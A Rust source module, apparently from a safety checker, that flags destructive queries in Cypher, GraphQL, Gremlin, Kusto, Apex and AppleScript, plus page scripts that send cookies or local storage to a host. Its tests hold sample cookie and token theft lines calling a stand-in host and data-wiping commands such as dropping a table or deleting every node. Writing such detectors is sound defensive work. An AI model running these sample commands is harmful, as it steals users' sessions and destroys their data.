//! Texts in query languages other than SQL that destroy something, and scripts of a page that carry something out.

use super::orders::destroys;
use super::tool::split;

/// What a text orders, if as a whole it is a query or a call of an interface.
pub(super) fn order(text: &str) -> Option<String> {
    let text = text.trim();
    let found = graph_pattern(text)
        .or_else(|| mutation(text))
        .or_else(|| traversal(text))
        .or_else(|| management(text))
        .or_else(|| records(text))
        .or_else(|| request(text));
    found.map(|what| format!("Orders a destruction: {what}.")).or_else(|| carried_out(text))
}

/// Cypher: `MATCH (n) DETACH DELETE n`.
fn graph_pattern(text: &str) -> Option<String> {
    let upper = text.to_uppercase();
    let mut words = upper.split_whitespace();
    let opens = matches!(words.next(), Some("MATCH" | "OPTIONAL" | "UNWIND" | "CALL" | "WITH"));
    let deletes = words.any(|word| word == "DELETE" || word == "DETACH");
    (opens && deletes && text.contains(['(', '{'])).then(|| "the query deletes nodes (`DELETE`)".to_owned())
}

/// GraphQL: a mutation whose field has a destroying verb (`deleteRef`, `projectDelete`).
fn mutation(text: &str) -> Option<String> {
    let (_, body) = text.strip_prefix("mutation")?.split_once('{')?;
    // Only the fields themselves, not their arguments and what they answer with.
    let mut depth = 0;
    let mut fields = vec![String::new()];
    for letter in body.chars() {
        match letter {
            '{' | '(' => depth += 1,
            '}' | ')' => depth -= 1,
            letter if depth == 0 && (letter.is_alphanumeric() || letter == '_') => {
                fields.last_mut()?.push(letter);
                continue;
            }
            _ => {}
        }
        fields.push(String::new());
    }
    fields
        .iter()
        .find(|field| split(field).iter().any(|word| destroys(word) || word == "merge"))
        .map(|field| format!("the mutation says `{field}`"))
}

/// Gremlin: `g.V().drop()`.
fn traversal(text: &str) -> Option<String> {
    (text.starts_with("g.") && text.contains(".drop()"))
        .then(|| "the traversal drops what it finds".to_owned())
}

/// Kusto: `.drop table Users`.
fn management(text: &str) -> Option<String> {
    let mut words = text.strip_prefix('.')?.split_whitespace();
    let first = words.next()?;
    (destroys(first) && words.next().is_some()).then(|| format!("the command says `.{first}`"))
}

/// Apex: `delete [SELECT Id FROM Account];`, and AppleScript: `tell application "Finder" to delete every item`.
fn records(text: &str) -> Option<String> {
    let lower = text.to_lowercase();
    let deletes = lower.starts_with("delete [select")
        || lower.starts_with("tell application") && lower.contains(" delete ");
    deletes.then(|| "the script deletes what it finds".to_owned())
}

/// Code that makes a request: `request({method: 'DELETE', path: '/zones/abc'})`.
fn request(text: &str) -> Option<String> {
    let (_, rest) = text.split_once("method")?;
    let value = rest.trim_start_matches(['"', '\'', ':', '=', ' ']);
    (value.starts_with("DELETE") && text.contains(['(', '{']))
        .then(|| "the request's method is DELETE".to_owned())
}

/// What a browser keeps for a person.
const KEPT: &[&str] = &["document.cookie", "localStorage", "sessionStorage", "indexedDB"];
/// What a script of a page contacts a host with.
const CONTACTS: &[&str] = &[
    "fetch(",
    "sendBeacon(",
    "XMLHttpRequest",
    "WebSocket(",
    "EventSource(",
    ".src",
    "location",
    "axios",
    "import(",
];

/// A script of a page that sends cookies or what the page keeps to a host.
fn carried_out(text: &str) -> Option<String> {
    let kept = KEPT.iter().find(|name| text.contains(*name))?;
    let contacts = CONTACTS.iter().any(|name| text.contains(name)) && text.contains("//");
    contacts.then(|| format!("Sends what the browser keeps (`{kept}`) to a host."))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn queries_that_destroy_are_orders_and_others_are_not() {
        for text in [
            "MATCH (n) DETACH DELETE n",
            "match (n:User {id: 1}) delete n",
            "mutation { projectDelete(input: {id: 1}) { ok } }",
            "mutation M($id: ID!) { deleteRef(input: {refId: $id}) { clientMutationId } }",
            "g.V().hasLabel('user').drop()",
            ".drop table Users",
            "() => fetch('https://drop.example.net/?' + document.cookie)",
            "delete [SELECT Id FROM Account];",
            "tell application \"Finder\" to delete every item of home",
            "async () => api.request({method: 'DELETE', path: '/zones/abc'})",
            "new Image().src = 'https://drop.example.net/?' + localStorage.token",
        ] {
            assert!(order(text).is_some(), "{text}");
        }
        for text in [
            "MATCH (n) RETURN n",
            "match the design and delete nothing",
            "query { deletedUsers { id } }",
            "mutation { addStar(input: {id: 1}) { ok } }",
            "g.V().count()",
            ".env",
            "mutation { updateUser(input: {delete: false}) { deletedAt } }",
            ".trash",
            "() => document.cookie",
            "fetch('https://example.com/a')",
        ] {
            assert_eq!(order(text), None, "{text}");
        }
    }
}
